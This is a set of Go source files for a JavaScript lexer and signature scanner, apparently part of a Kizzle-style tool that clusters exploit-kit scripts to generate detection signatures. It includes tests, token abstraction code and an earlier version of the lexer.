// string copy per document. The scanner never retains any part of the
// document — lexer tokens live only for the duration of the scan, and
// Match results carry only signature-owned strings and integer offsets —
// so the caller may reuse or pool the buffer as soon as the call returns.

// ScanBytes scans a document held in a byte slice without copying it.
// Results are identical to Scan(string(doc)).
func (s *Scanner) ScanBytes(doc []byte) []Match {
	return s.ScanTokens(jstoken.LexDocument(zerocopy.String(doc)))
}

// DetectsBytes reports whether any deployed signature matches the
// document, scanning the byte slice in place and stopping at the first
// hit. Results are identical to Detects(string(doc)).
func (s *Scanner) DetectsBytes(doc []byte) bool {
	return s.DetectsTokens(jstoken.LexDocument(zerocopy.String(doc)))
}

// ScanDocumentsBytes tokenizes and scans raw byte-slice documents
// concurrently — the batched zero-copy entry point admission batching
// dispatches through. Results align with the input and are identical to
// ScanDocuments on string copies of the same documents.
func (s *Scanner) ScanDocumentsBytes(docs [][]byte) [][]Match {
	out := make([][]Match, len(docs))
	parallel.ForEach(len(docs), runtime.GOMAXPROCS(0), 1, func(_, i int) {
		out[i] = s.ScanBytes(docs[i])
	})
	return out
}
