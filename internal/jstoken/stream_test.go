package jstoken

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

// lexCases are sources chosen to exercise every lexer state, including the
// regex/division ambiguity the streaming path re-derives from cached
// class+symbol state instead of the token slice.
var lexCases = []string{
	"",
	" \t\n",
	`var Euur1V = this["l9D"]("ev#333399al");`,
	"a = b / c / d;",
	"x = /abc/gi.test(y) ? 1 : 0;",
	"this /x/ y", // division after value keyword
	"true /x/ y",
	"if (x) /re/.exec(s);", // regex after non-value keyword punct
	"a++ /2/ b",            // division after postfix
	"return /re/;",         // regex after return
	"f()/g()/h()",
	"x = `template ${a+b} string`;",
	"s = 'unterminated",
	"t = \"broken\nnext();",
	"/* block comment */ code(); // line\nmore();",
	"n = 0x1F + 12.5e-3 + .25;",
	"obj?.prop ?? fallback; a >>>= 2; b **= 3;",
	"weird \x00 bytes \xff here",
	"/stray-slash-at-eof",
	"[1,2,3]/x/g", // division after ]
	"{}/x/g",      // regex after } (statement position heuristic)
}

func tokensEqual(a, b []Token) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func symbolsEqual(a, b []Symbol) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// TestLexIntoMatchesLex pins the streaming lexer against the batch lexer
// token for token, reusing one Scratch across all cases so stale-buffer
// bugs surface.
func TestLexIntoMatchesLex(t *testing.T) {
	var s Scratch
	for _, src := range lexCases {
		want := Lex(src)
		got := s.LexInto(src)
		if !tokensEqual(want, got) {
			t.Errorf("LexInto(%q) diverged from Lex", src)
		}
	}
}

// TestLexSymbolsMatchesAbstract pins the symbol-only path against
// Abstract(Lex(src)) across the hand-built cases, random JavaScript-ish
// soup, and quick-generated strings.
func TestLexSymbolsMatchesAbstract(t *testing.T) {
	var s Scratch
	for _, src := range lexCases {
		want := Abstract(Lex(src))
		got := s.LexSymbols(src)
		if !symbolsEqual(want, got) {
			t.Errorf("LexSymbols(%q) diverged from Abstract(Lex())", src)
		}
	}
	rng := rand.New(rand.NewSource(42))
	pieces := []string{"var ", "x", "1", "/", "/re/g", "'s'", "\"q\"", "(", ")",
		"[", "]", "{", "}", ";", "++", "this", "return", "==", "`t`", "\n", " ", "."}
	for trial := 0; trial < 500; trial++ {
		var sb strings.Builder
		for i := 0; i < rng.Intn(40); i++ {
			sb.WriteString(pieces[rng.Intn(len(pieces))])
		}
		src := sb.String()
		if !symbolsEqual(Abstract(Lex(src)), s.LexSymbols(src)) {
			t.Fatalf("diverged on %q", src)
		}
	}
	f := func(src string) bool {
		return symbolsEqual(Abstract(Lex(src)), s.LexSymbols(src))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// TestAbstractIntoMatchesAbstract covers hand-built tokens (sym == 0) and
// lexer-built ones.
func TestAbstractIntoMatchesAbstract(t *testing.T) {
	var s Scratch
	handmade := []Token{
		{Class: ClassKeyword, Text: "var"},
		{Class: ClassIdentifier, Text: "x"},
		{Class: ClassPunct, Text: "="},
		{Class: ClassNumber, Text: "1"},
	}
	if !symbolsEqual(Abstract(handmade), s.AbstractInto(handmade)) {
		t.Error("AbstractInto diverged on hand-built tokens")
	}
	lexed := Lex(`function f(a) { return a / 2; }`)
	if !symbolsEqual(Abstract(lexed), s.AbstractInto(lexed)) {
		t.Error("AbstractInto diverged on lexed tokens")
	}
}

// TestLexDocumentSymbolsMatchesBatch checks the HTML-extraction + lexing
// composition.
func TestLexDocumentSymbolsMatchesBatch(t *testing.T) {
	var s Scratch
	docs := []string{
		"plain javascript; var x = 1;",
		"<html><script>var a=1;</script><p>text</p><SCRIPT>b=2;</SCRIPT></html>",
		"<script>unterminated",
	}
	for _, doc := range docs {
		want := Abstract(LexDocument(doc))
		if !symbolsEqual(want, s.LexDocumentSymbols(doc)) {
			t.Errorf("LexDocumentSymbols(%q) diverged", doc)
		}
		if !tokensEqual(LexDocument(doc), s.LexDocumentInto(doc)) {
			t.Errorf("LexDocumentInto(%q) diverged", doc)
		}
	}
}

// TestAppendSymbols checks the retained-copy helper allocates exactly and
// does not alias scratch state.
func TestAppendSymbols(t *testing.T) {
	var s Scratch
	doc := "var a = 1; var b = 2;"
	got := s.AppendSymbols(nil, doc)
	want := Abstract(LexDocument(doc))
	if !symbolsEqual(want, got) {
		t.Fatal("AppendSymbols diverged")
	}
	// Lexing another document must not mutate the retained copy.
	s.LexSymbols("completely.different(tokens) + 99;")
	if !symbolsEqual(want, got) {
		t.Fatal("retained copy aliases scratch buffer")
	}
}

// TestScratchSteadyStateAllocs verifies the arena actually amortizes: after
// warm-up, lexing to symbols allocates nothing.
func TestScratchSteadyStateAllocs(t *testing.T) {
	var s Scratch
	src := strings.Repeat("var x = f(a, 'lit', 0x33) / 2; ", 200)
	s.LexSymbols(src)
	if allocs := testing.AllocsPerRun(20, func() { s.LexSymbols(src) }); allocs != 0 {
		t.Errorf("LexSymbols steady-state allocs/op = %v, want 0", allocs)
	}
	s.LexInto(src)
	if allocs := testing.AllocsPerRun(20, func() { s.LexInto(src) }); allocs != 0 {
		t.Errorf("LexInto steady-state allocs/op = %v, want 0", allocs)
	}
}

// BenchmarkLexSymbols compares the symbol-only streaming path against the
// classic lex-then-abstract composition on packed-JS-density input.
func BenchmarkLexSymbols(b *testing.B) {
	src := strings.Repeat("var x=f(a,'lit',0x33)/2;g[i]=h?'y':\"n\";", 500)
	b.Run("batch", func(b *testing.B) {
		b.SetBytes(int64(len(src)))
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			Abstract(Lex(src))
		}
	})
	b.Run("streaming", func(b *testing.B) {
		var s Scratch
		b.SetBytes(int64(len(src)))
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			s.LexSymbols(src)
		}
	})
}
