package jstoken

import "strconv"

// Class is the abstract class of a lexical token. It is an int32 so a
// Token (class + cached symbol + text + position) packs into 32 bytes;
// token slices are the scanner's dominant memory traffic.
type Class int32

// Token classes, mirroring the paper's abstraction alphabet.
const (
	ClassKeyword Class = iota + 1
	ClassIdentifier
	ClassPunct
	ClassString
	ClassNumber
	ClassRegex
	// ClassText is a markup text run (character data between tags). The JS
	// lexer never emits it; it exists for non-JS ingest profiles that share
	// this Token representation.
	ClassText
)

// String returns a short human-readable class name.
func (c Class) String() string {
	switch c {
	case ClassKeyword:
		return "Keyword"
	case ClassIdentifier:
		return "Identifier"
	case ClassPunct:
		return "Punctuation"
	case ClassString:
		return "String"
	case ClassNumber:
		return "Number"
	case ClassRegex:
		return "Regex"
	case ClassText:
		return "Text"
	default:
		return "Class(" + strconv.Itoa(int(c)) + ")"
	}
}

// Token is one lexical token with its concrete source text.
type Token struct {
	Class Class
	// sym caches the abstraction symbol, filled in by the lexer so
	// Abstract never has to hash keyword or punctuator text. Zero means
	// "compute on demand" (hand-built tokens).
	sym Symbol
	// Text is the raw source text of the token, including string quotes.
	Text string
	// Pos is the byte offset of the token in the input.
	Pos int
}

// Value returns the token text after AV-style normalization: string quotes
// are stripped (the paper notes AV scanners remove quotation marks in a
// normalization step, so generated signatures omit them).
func (t Token) Value() string {
	if t.Class == ClassString && len(t.Text) >= 2 {
		q := t.Text[0]
		if (q == '"' || q == '\'' || q == '`') && t.Text[len(t.Text)-1] == q {
			return t.Text[1 : len(t.Text)-1]
		}
	}
	return t.Text
}

// Symbol is one letter of the abstraction alphabet used for edit-distance
// clustering. Keywords and punctuators keep their identity (each distinct
// keyword or punctuator is its own symbol); identifiers, strings, numbers
// and regexes each collapse to a single symbol so that packer-randomized
// names compare equal.
type Symbol uint16

// Reserved symbols for the collapsed classes. Keyword and punctuator
// symbols are assigned above symbolBase.
const (
	SymIdentifier Symbol = 1
	SymString     Symbol = 2
	SymNumber     Symbol = 3
	SymRegex      Symbol = 4

	symbolBase Symbol = 16
)

// Abstract maps tokens to their abstraction symbols.
func Abstract(tokens []Token) []Symbol {
	out := make([]Symbol, len(tokens))
	for i := range tokens {
		if s := tokens[i].sym; s != 0 {
			out[i] = s
			continue
		}
		out[i] = tokens[i].Symbol()
	}
	return out
}

// Symbol returns the abstraction symbol for a single token.
func (t Token) Symbol() Symbol {
	if t.sym != 0 {
		return t.sym
	}
	switch t.Class {
	case ClassIdentifier:
		return SymIdentifier
	case ClassString:
		return SymString
	case ClassNumber:
		return SymNumber
	case ClassRegex:
		return SymRegex
	case ClassKeyword:
		return symbolBase + Symbol(keywordIndex[t.Text])
	case ClassPunct:
		return symbolBase + Symbol(len(keywords)) + Symbol(punctIndex[t.Text])
	default:
		return 0
	}
}

// MakeToken builds a Token with an explicit cached abstraction symbol.
// Non-JS ingest profiles use it so Abstract sees their own alphabet
// instead of recomputing symbols from this package's keyword and
// punctuator tables.
func MakeToken(class Class, text string, pos int, sym Symbol) Token {
	return Token{Class: class, sym: sym, Text: text, Pos: pos}
}

// keywords is the ECMAScript 5 keyword set plus the literals the lexer
// treats as keywords. Order is fixed: symbol identity depends on it.
var keywords = []string{
	"break", "case", "catch", "continue", "debugger", "default", "delete",
	"do", "else", "finally", "for", "function", "if", "in", "instanceof",
	"new", "return", "switch", "this", "throw", "try", "typeof", "var",
	"void", "while", "with", "true", "false", "null", "undefined", "let",
	"const", "class", "extends", "super", "yield", "import", "export",
}

// puncts lists all punctuators, longest first so the lexer can greedily
// match multi-character operators.
var puncts = []string{
	">>>=", "===", "!==", ">>>", "<<=", ">>=", "**=", "...",
	"==", "!=", "<=", ">=", "&&", "||", "++", "--", "<<", ">>", "+=", "-=",
	"*=", "/=", "%=", "&=", "|=", "^=", "=>", "**", "?.", "??",
	"{", "}", "(", ")", "[", "]", ";", ",", "<", ">", "+", "-", "*", "/",
	"%", "&", "|", "^", "!", "~", "?", ":", "=", ".",
}

var (
	keywordIndex = buildIndex(keywords)
	punctIndex   = buildIndex(puncts)
)

func buildIndex(items []string) map[string]int {
	m := make(map[string]int, len(items))
	for i, s := range items {
		m[s] = i
	}
	return m
}

// IsKeyword reports whether word is lexed as a keyword.
func IsKeyword(word string) bool {
	_, ok := keywordIndex[word]
	return ok
}

// SymbolSpace returns the exclusive upper bound of the abstraction
// alphabet: every Symbol the lexer emits is < SymbolSpace(). Callers use
// it to size per-symbol frequency tables.
func SymbolSpace() int { return int(symbolBase) + len(keywords) + len(puncts) }
