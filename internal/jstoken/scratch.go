package jstoken

// Scratch holds reusable lexing arenas: a token buffer and a symbol buffer
// that are recycled across documents, mirroring textdist.Scratch. The
// pipeline tokenizes every incoming sample every day; per-worker scratches
// make that stage free of per-document slice allocations. The zero value
// is ready to use. A Scratch is not safe for concurrent use; give each
// worker goroutine its own.
//
// Slices returned by the *Into methods are owned by the Scratch and are
// valid only until its next call. Callers that retain a result must copy
// it (see AppendSymbols for the retained-copy idiom).
type Scratch struct {
	tokens []Token
	syms   []Symbol
}

// grow returns a zero-length token buffer with capacity for src.
func (s *Scratch) growTokens(n int) []Token {
	need := n/3 + 8
	if cap(s.tokens) < need {
		s.tokens = make([]Token, 0, need)
	}
	return s.tokens[:0]
}

func (s *Scratch) growSyms(n int) []Symbol {
	if cap(s.syms) < n {
		s.syms = make([]Symbol, 0, n)
	}
	return s.syms[:0]
}

// LexInto tokenizes src into the scratch's reusable token buffer and
// returns it. The result is identical, token for token, to Lex(src).
func (s *Scratch) LexInto(src string) []Token {
	l := lexer{src: src, tokens: s.growTokens(len(src))}
	l.run()
	s.tokens = l.tokens
	return l.tokens
}

// LexDocumentInto extracts inline scripts (HTML inputs) and tokenizes the
// result into the scratch buffer; equivalent to LexDocument(doc).
func (s *Scratch) LexDocumentInto(doc string) []Token {
	return s.LexInto(ExtractScripts(doc))
}

// AbstractInto maps tokens to their abstraction symbols using the
// scratch's reusable symbol buffer; equivalent to Abstract(tokens).
func (s *Scratch) AbstractInto(tokens []Token) []Symbol {
	out := s.growSyms(len(tokens))
	for i := range tokens {
		if sym := tokens[i].sym; sym != 0 {
			out = append(out, sym)
		} else {
			out = append(out, tokens[i].Symbol())
		}
	}
	s.syms = out
	return out
}

// LexSymbols lexes src directly to its abstract symbol sequence without
// materializing Token values — the streaming fast path for clustering,
// where only the symbol alphabet matters. The result equals
// Abstract(Lex(src)) and is owned by the Scratch.
func (s *Scratch) LexSymbols(src string) []Symbol {
	l := lexer{src: src, syms: s.growSyms(len(src)/3 + 8), symsOnly: true}
	l.run()
	s.syms = l.syms
	return l.syms
}

// LexDocumentSymbols extracts inline scripts and lexes straight to
// symbols; equals Abstract(LexDocument(doc)).
func (s *Scratch) LexDocumentSymbols(doc string) []Symbol {
	return s.LexSymbols(ExtractScripts(doc))
}

// AppendSymbols appends the abstract symbol sequence of doc to dst and
// returns it — the retained-copy idiom: one exact-size allocation when dst
// is nil, none when dst has capacity, while all lexing scratch is reused.
func (s *Scratch) AppendSymbols(dst []Symbol, doc string) []Symbol {
	syms := s.LexDocumentSymbols(doc)
	if dst == nil {
		dst = make([]Symbol, 0, len(syms))
	}
	return append(dst, syms...)
}
