package jstoken

import "strings"

// Lex tokenizes JavaScript source. The lexer is deliberately forgiving:
// grayware streams contain truncated and syntactically broken scripts, and
// Kizzle must still produce a stable token stream for them. Unterminated
// strings and comments consume to end of input; bytes that fit no token are
// skipped.
func Lex(src string) []Token {
	// Packed exploit-kit payloads run around 3 bytes per token; sizing for
	// that keeps the append growth to at most one reallocation on the
	// dense inputs the scanner sees in production.
	l := lexer{src: src, tokens: make([]Token, 0, len(src)/3+8)}
	l.run()
	return l.tokens
}

type lexer struct {
	src    string
	pos    int
	tokens []Token
	// syms receives the abstraction symbol stream when symsOnly is set; in
	// that mode no Token values are materialized at all — the dominant
	// memory traffic of batch tokenization (32 bytes per token) vanishes
	// for callers that only cluster on the abstract sequence.
	syms     []Symbol
	symsOnly bool
	// prevClass/prevSym track the last emitted token for the regex /
	// division disambiguation, replacing the lookback into the token
	// slice so the symbol-only mode shares the exact same decision.
	prevClass Class
	prevSym   Symbol
}

// Lead-byte kinds for the dispatch table: the per-byte cascade of range
// and equality tests is the hottest comparison chain in the scanner, so
// the first byte of every token resolves through one table load and a
// dense switch the compiler lowers to a jump table.
const (
	leadOther byte = iota
	leadSpace
	leadSlash
	leadQuote
	leadDigit
	leadDot
	leadIdent
)

var leadKind = func() (t [256]byte) {
	for _, c := range []byte{' ', '\t', '\n', '\r', '\f', '\v'} {
		t[c] = leadSpace
	}
	t['/'] = leadSlash
	t['"'], t['\''], t['`'] = leadQuote, leadQuote, leadQuote
	for c := byte('0'); c <= '9'; c++ {
		t[c] = leadDigit
	}
	t['.'] = leadDot
	for c := 0; c < 256; c++ {
		if isIdentStart(byte(c)) {
			t[c] = leadIdent
		}
	}
	return t
}()

func (l *lexer) run() {
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch leadKind[c] {
		case leadSpace:
			l.pos++
		case leadIdent:
			l.lexIdentifier()
		case leadQuote:
			l.lexString(c)
		case leadDigit:
			l.lexNumber()
		case leadDot:
			if isDigit(l.peek(1)) {
				l.lexNumber()
			} else if !l.lexPunct() {
				l.pos++
			}
		case leadSlash:
			switch l.peek(1) {
			case '/':
				l.skipLineComment()
			case '*':
				l.skipBlockComment()
			default:
				if l.regexAllowed() {
					l.lexRegex()
				} else if !l.lexPunct() {
					l.pos++
				}
			}
		default:
			if !l.lexPunct() {
				l.pos++ // unknown byte: skip
			}
		}
	}
}

func (l *lexer) peek(off int) byte {
	if l.pos+off < len(l.src) {
		return l.src[l.pos+off]
	}
	return 0
}

func (l *lexer) emit(class Class, start int, sym Symbol) {
	l.prevClass, l.prevSym = class, sym
	if l.symsOnly {
		l.syms = append(l.syms, sym)
		return
	}
	l.tokens = append(l.tokens, Token{Class: class, Text: l.src[start:l.pos], Pos: start, sym: sym})
}

func (l *lexer) skipLineComment() {
	for l.pos < len(l.src) && l.src[l.pos] != '\n' {
		l.pos++
	}
}

func (l *lexer) skipBlockComment() {
	l.pos += 2
	for l.pos < len(l.src) {
		if l.src[l.pos] == '*' && l.peek(1) == '/' {
			l.pos += 2
			return
		}
		l.pos++
	}
}

// lexString scans a string literal by jumping between interesting bytes
// with the vectorized IndexByte instead of walking byte by byte: packed
// exploit-kit payloads are carried in string literals hundreds of
// kilobytes long, which makes string scanning the single largest byte
// consumer in the lexer.
func (l *lexer) lexString(quote byte) {
	start := l.pos
	l.pos++
	for l.pos < len(l.src) {
		rest := l.src[l.pos:]
		q := strings.IndexByte(rest, quote)
		if q < 0 {
			q = len(rest) // unterminated: consumes to end of input
		}
		// Anything before the closing quote that changes the scan — an
		// escape, or a line break for single-line strings?
		seg := rest[:q]
		b := strings.IndexByte(seg, '\\')
		if quote != '`' {
			// Plain strings do not span lines; unterminated ones end there.
			if n := strings.IndexByte(seg, '\n'); n >= 0 && (b < 0 || n < b) {
				if r := strings.IndexByte(seg[:n], '\r'); r >= 0 && (b < 0 || r < b) {
					n = r
				}
				l.pos += n
				l.emit(ClassString, start, SymString)
				return
			}
			if r := strings.IndexByte(seg, '\r'); r >= 0 && (b < 0 || r < b) {
				l.pos += r
				l.emit(ClassString, start, SymString)
				return
			}
		}
		if b >= 0 {
			// Skip the escape pair and rescan from there. A backslash as
			// the last input byte consumes just itself, matching the
			// byte-walk semantics.
			if l.pos+b+1 < len(l.src) {
				l.pos += b + 2
			} else {
				l.pos += b + 1
			}
			continue
		}
		if q < len(rest) {
			l.pos += q + 1 // include closing quote
		} else {
			l.pos = len(l.src)
		}
		l.emit(ClassString, start, SymString)
		return
	}
	l.emit(ClassString, start, SymString)
}

func (l *lexer) lexNumber() {
	start := l.pos
	if l.src[l.pos] == '0' && (l.peek(1) == 'x' || l.peek(1) == 'X') {
		l.pos += 2
		for l.pos < len(l.src) && isHexDigit(l.src[l.pos]) {
			l.pos++
		}
		l.emit(ClassNumber, start, SymNumber)
		return
	}
	for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
		l.pos++
	}
	if l.pos < len(l.src) && l.src[l.pos] == '.' {
		l.pos++
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.pos++
		}
	}
	if l.pos < len(l.src) && (l.src[l.pos] == 'e' || l.src[l.pos] == 'E') {
		next := l.peek(1)
		if isDigit(next) || ((next == '+' || next == '-') && isDigit(l.peek(2))) {
			l.pos++
			if l.src[l.pos] == '+' || l.src[l.pos] == '-' {
				l.pos++
			}
			for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
				l.pos++
			}
		}
	}
	l.emit(ClassNumber, start, SymNumber)
}

func (l *lexer) lexIdentifier() {
	start := l.pos
	for l.pos < len(l.src) && identPart[l.src[l.pos]] {
		l.pos++
	}
	word := l.src[start:l.pos]
	// The compiled string switch rejects the overwhelmingly common
	// non-keyword identifiers without hashing; only actual keywords pay
	// the map lookup for their symbol.
	if isKeywordSwitch(word) {
		l.emit(ClassKeyword, start, symbolBase+Symbol(keywordIndex[word]))
	} else {
		l.emit(ClassIdentifier, start, SymIdentifier)
	}
}

// isKeywordSwitch mirrors the keywords list as a string switch. A test
// pins it against keywordIndex so the two cannot drift.
func isKeywordSwitch(word string) bool {
	switch word {
	case "break", "case", "catch", "continue", "debugger", "default",
		"delete", "do", "else", "finally", "for", "function", "if", "in",
		"instanceof", "new", "return", "switch", "this", "throw", "try",
		"typeof", "var", "void", "while", "with", "true", "false", "null",
		"undefined", "let", "const", "class", "extends", "super", "yield",
		"import", "export":
		return true
	}
	return false
}

// regexAllowed applies the standard heuristic for the / ambiguity: a regex
// literal may start only where an expression may start, i.e. after an
// operator, opening bracket, keyword, or at the beginning of input. The
// previous token is consulted through its cached class and symbol so the
// check costs one table load and works identically in symbol-only mode.
func (l *lexer) regexAllowed() bool {
	switch l.prevClass {
	case 0:
		return true // start of input
	case ClassIdentifier, ClassString, ClassNumber, ClassRegex:
		return false
	case ClassKeyword, ClassPunct:
		return !noRegexAfterSym[l.prevSym]
	default:
		return true
	}
}

// noRegexAfterSym marks the keyword and punctuator symbols after which a
// slash is division, not a regex: value keywords (`this`, `true`, …) and
// the closing/postfix punctuators.
var noRegexAfterSym = func() []bool {
	t := make([]bool, int(symbolBase)+len(keywords)+len(puncts))
	for _, kw := range []string{"this", "true", "false", "null", "undefined", "super"} {
		t[int(symbolBase)+keywordIndex[kw]] = true
	}
	for _, p := range []string{")", "]", "}", "++", "--"} {
		t[punctSymbol(p)] = true
	}
	return t
}()

func (l *lexer) lexRegex() {
	start := l.pos
	l.pos++ // consume '/'
	inClass := false
	terminated := false
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == '\\' && l.pos+1 < len(l.src) {
			l.pos += 2
			continue
		}
		if c == '\n' || c == '\r' {
			break
		}
		if c == '[' {
			inClass = true
		} else if c == ']' {
			inClass = false
		} else if c == '/' && !inClass {
			l.pos++
			terminated = true
			break
		}
		l.pos++
	}
	if !terminated {
		// Not a regex after all (e.g. stray slash); emit as punctuator.
		l.pos = start + 1
		l.emit(ClassPunct, start, punctSymbol("/"))
		return
	}
	for l.pos < len(l.src) && isIdentPart(l.src[l.pos]) {
		l.pos++ // flags
	}
	l.emit(ClassRegex, start, SymRegex)
}

// punctEntry pairs a punctuator with its precomputed abstraction symbol.
type punctEntry struct {
	text string
	sym  Symbol
}

// punctSymbol is the abstraction symbol of punctuator p.
func punctSymbol(p string) Symbol {
	return symbolBase + Symbol(len(keywords)) + Symbol(punctIndex[p])
}

// punctByFirst buckets the punctuators by first byte, preserving the
// longest-first order within each bucket. Dispatching on the first byte
// replaces the linear scan over all punctuators — the single hottest
// operation when lexing minified or packed JavaScript, where roughly every
// third token is a punctuator.
var punctByFirst = func() (table [256][]punctEntry) {
	for _, p := range puncts {
		table[p[0]] = append(table[p[0]], punctEntry{text: p, sym: punctSymbol(p)})
	}
	return table
}()

func (l *lexer) lexPunct() bool {
	for _, e := range punctByFirst[l.src[l.pos]] {
		if len(e.text) == 1 || matchesAt(l.src, l.pos, e.text) {
			start := l.pos
			l.pos += len(e.text)
			l.emit(ClassPunct, start, e.sym)
			return true
		}
	}
	return false
}

// matchesAt reports whether src[pos:] begins with p; the first byte is
// already known to match.
func matchesAt(src string, pos int, p string) bool {
	if pos+len(p) > len(src) {
		return false
	}
	return src[pos:pos+len(p)] == p
}

func isDigit(c byte) bool    { return c >= '0' && c <= '9' }
func isHexDigit(c byte) bool { return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F') }

func isIdentStart(c byte) bool {
	return c == '_' || c == '$' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func isIdentPart(c byte) bool { return isIdentStart(c) || isDigit(c) }

// identPart tabulates isIdentPart: identifier bytes dominate JavaScript
// source, and one table load beats the five-way comparison chain.
var identPart = func() (t [256]bool) {
	for c := 0; c < 256; c++ {
		t[c] = isIdentPart(byte(c))
	}
	return t
}()
