package jstoken

import (
	"strings"
)

// Lex tokenizes JavaScript source. The lexer is deliberately forgiving:
// grayware streams contain truncated and syntactically broken scripts, and
// Kizzle must still produce a stable token stream for them. Unterminated
// strings and comments consume to end of input; bytes that fit no token are
// skipped.
func Lex(src string) []Token {
	l := lexer{src: src, tokens: make([]Token, 0, len(src)/6+8)}
	l.run()
	return l.tokens
}

type lexer struct {
	src    string
	pos    int
	tokens []Token
}

func (l *lexer) run() {
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v':
			l.pos++
		case c == '/' && l.peek(1) == '/':
			l.skipLineComment()
		case c == '/' && l.peek(1) == '*':
			l.skipBlockComment()
		case c == '"' || c == '\'' || c == '`':
			l.lexString(c)
		case c >= '0' && c <= '9':
			l.lexNumber()
		case c == '.' && isDigit(l.peek(1)):
			l.lexNumber()
		case isIdentStart(c):
			l.lexIdentifier()
		case c == '/' && l.regexAllowed():
			l.lexRegex()
		default:
			if !l.lexPunct() {
				l.pos++ // unknown byte: skip
			}
		}
	}
}

func (l *lexer) peek(off int) byte {
	if l.pos+off < len(l.src) {
		return l.src[l.pos+off]
	}
	return 0
}

func (l *lexer) emit(class Class, start int) {
	l.tokens = append(l.tokens, Token{Class: class, Text: l.src[start:l.pos], Pos: start})
}

func (l *lexer) skipLineComment() {
	for l.pos < len(l.src) && l.src[l.pos] != '\n' {
		l.pos++
	}
}

func (l *lexer) skipBlockComment() {
	l.pos += 2
	for l.pos < len(l.src) {
		if l.src[l.pos] == '*' && l.peek(1) == '/' {
			l.pos += 2
			return
		}
		l.pos++
	}
}

func (l *lexer) lexString(quote byte) {
	start := l.pos
	l.pos++
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == '\\' && l.pos+1 < len(l.src) {
			l.pos += 2
			continue
		}
		if c == quote {
			l.pos++
			break
		}
		// Plain strings do not span lines; unterminated ones end there.
		if quote != '`' && (c == '\n' || c == '\r') {
			break
		}
		l.pos++
	}
	l.emit(ClassString, start)
}

func (l *lexer) lexNumber() {
	start := l.pos
	if l.src[l.pos] == '0' && (l.peek(1) == 'x' || l.peek(1) == 'X') {
		l.pos += 2
		for l.pos < len(l.src) && isHexDigit(l.src[l.pos]) {
			l.pos++
		}
		l.emit(ClassNumber, start)
		return
	}
	for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
		l.pos++
	}
	if l.pos < len(l.src) && l.src[l.pos] == '.' {
		l.pos++
		for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
			l.pos++
		}
	}
	if l.pos < len(l.src) && (l.src[l.pos] == 'e' || l.src[l.pos] == 'E') {
		next := l.peek(1)
		if isDigit(next) || ((next == '+' || next == '-') && isDigit(l.peek(2))) {
			l.pos++
			if l.src[l.pos] == '+' || l.src[l.pos] == '-' {
				l.pos++
			}
			for l.pos < len(l.src) && isDigit(l.src[l.pos]) {
				l.pos++
			}
		}
	}
	l.emit(ClassNumber, start)
}

func (l *lexer) lexIdentifier() {
	start := l.pos
	for l.pos < len(l.src) && isIdentPart(l.src[l.pos]) {
		l.pos++
	}
	word := l.src[start:l.pos]
	if IsKeyword(word) {
		l.emit(ClassKeyword, start)
	} else {
		l.emit(ClassIdentifier, start)
	}
}

// regexAllowed applies the standard heuristic for the / ambiguity: a regex
// literal may start only where an expression may start, i.e. after an
// operator, opening bracket, keyword, or at the beginning of input.
func (l *lexer) regexAllowed() bool {
	if len(l.tokens) == 0 {
		return true
	}
	prev := l.tokens[len(l.tokens)-1]
	switch prev.Class {
	case ClassIdentifier, ClassString, ClassNumber, ClassRegex:
		return false
	case ClassKeyword:
		// `this`, `true` etc. are value keywords; division follows them.
		switch prev.Text {
		case "this", "true", "false", "null", "undefined", "super":
			return false
		}
		return true
	case ClassPunct:
		switch prev.Text {
		case ")", "]", "}", "++", "--":
			return false
		}
		return true
	default:
		return true
	}
}

func (l *lexer) lexRegex() {
	start := l.pos
	l.pos++ // consume '/'
	inClass := false
	terminated := false
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if c == '\\' && l.pos+1 < len(l.src) {
			l.pos += 2
			continue
		}
		if c == '\n' || c == '\r' {
			break
		}
		if c == '[' {
			inClass = true
		} else if c == ']' {
			inClass = false
		} else if c == '/' && !inClass {
			l.pos++
			terminated = true
			break
		}
		l.pos++
	}
	if !terminated {
		// Not a regex after all (e.g. stray slash); emit as punctuator.
		l.pos = start + 1
		l.emit(ClassPunct, start)
		return
	}
	for l.pos < len(l.src) && isIdentPart(l.src[l.pos]) {
		l.pos++ // flags
	}
	l.emit(ClassRegex, start)
}

func (l *lexer) lexPunct() bool {
	rest := l.src[l.pos:]
	for _, p := range puncts {
		if strings.HasPrefix(rest, p) {
			start := l.pos
			l.pos += len(p)
			l.emit(ClassPunct, start)
			return true
		}
	}
	return false
}

func isDigit(c byte) bool    { return c >= '0' && c <= '9' }
func isHexDigit(c byte) bool { return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F') }

func isIdentStart(c byte) bool {
	return c == '_' || c == '$' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c >= 0x80
}

func isIdentPart(c byte) bool { return isIdentStart(c) || isDigit(c) }
