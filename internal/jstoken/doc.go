// Package jstoken lexes JavaScript source into a stream of tokens and
// abstracts them into the small token alphabet Kizzle clusters on
// (Keyword, Identifier, Punctuation, String, Number, Regex).
//
// The abstraction (paper, Figure 8) is what makes clustering robust against
// the identifier/delimiter randomization exploit-kit packers apply to every
// response: two samples that differ only in variable names or string
// contents abstract to the same symbol sequence.
//
// Two API tiers serve two cost profiles. The package functions (Lex,
// LexDocument, Abstract) allocate per call and are fine for one-off use.
